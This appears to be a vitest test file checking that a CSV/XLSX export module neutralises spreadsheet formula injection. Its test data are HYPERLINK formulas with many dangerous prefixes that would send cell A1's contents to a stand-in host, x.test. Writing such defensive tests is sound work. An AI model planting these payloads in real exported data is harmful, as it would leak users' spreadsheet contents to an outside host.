import { Readable } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { type Sheet, streamSheet, unguardedCell, writeSheet } from './sheet-file.ts'

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', ' =', '  +', '"=', "'=", "'"]
const texts = starts.map((start) => `${start}HYPERLINK("http://x.test?"&A1)`)
const sheet: Sheet = {
  name: 'list',
  title: 'List',
  columns: ['=column', 'name'],
  rows: texts.map((text) => [text, 'Қайрат']),
}
const filesOf = async (kind: 'csv' | 'xlsx') => [
  Buffer.from((await writeSheet(sheet, kind)).answer.body as Buffer),
  await buffer(streamSheet(sheet, kind).body as Readable),
]

test('trust S13: no cell of a CSV begins as a formula, and the text comes back as it was', async () => {
  for (const file of await filesOf('csv')) {
    const rows = parse(file, { bom: true }) as string[][]
    expect(rows).toHaveLength(texts.length + 1)
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠\t\r]/)
    expect(rows.slice(1).map(([cell]) => unguardedCell(cell ?? ''))).toEqual(texts)
  }
})

test('trust S13: every text of a workbook is a text cell with the same value', async () => {
  const { default: ExcelJS } = await import('exceljs')
  for (const file of await filesOf('xlsx')) {
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.read(Readable.from(file))
    const cells = workbook.worksheets[0]?.getColumn(1).values.slice(2) ?? []
    expect(cells.map((cell) => typeof cell)).toEqual(texts.map(() => 'string'))
    expect(cells.map((cell) => String(cell).replaceAll('\r', '\n'))).toEqual(
      texts.map((text) => text.replaceAll('\r', '\n')),
    )
    workbook.worksheets[0]?.eachRow((row) => row.eachCell((cell) => expect(cell.formula).toBeUndefined()))
  }
})
